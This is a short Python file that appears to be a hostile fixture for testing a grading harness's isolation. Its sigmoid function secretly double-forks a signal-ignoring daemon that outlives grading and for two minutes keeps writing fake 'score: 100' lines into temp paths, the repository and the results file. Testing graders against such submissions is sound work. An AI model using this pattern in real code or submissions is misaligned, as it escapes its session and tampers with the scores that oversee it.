# Starts a daemon (double fork + setsid, out of the worker's session, its folder and its
# environment) that outlives grading and keeps trying to write files, the results included.
# sigmoid itself stays honest: the attack is on the machine, not on the points.
import os
import signal
import time

_TARGETS = ["/tmp/nngrader-hostile-@TOKEN@-detached.txt", "/var/tmp/nngrader-hostile-@TOKEN@-detached.txt",
            "/dev/shm/nngrader-hostile-@TOKEN@-detached.txt", "@REPO@/hostile-@TOKEN@-detached.txt",
            "@RESULTS@"]
_started = False


def _haunt():
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    os.chdir("/")
    os.environ.clear()
    deadline = time.time() + 120
    while time.time() < deadline:
        for path in _TARGETS:
            try:
                with open(path, "a") as f:
                    f.write('{"score": 100, "token": "@TOKEN@"}\n')
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)


def sigmoid(x):
    global _started
    if not _started:
        _started = True
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    _haunt()
                finally:
                    os._exit(0)
            os._exit(0)
        os.waitpid(pid, 0)
    return _sig(x)
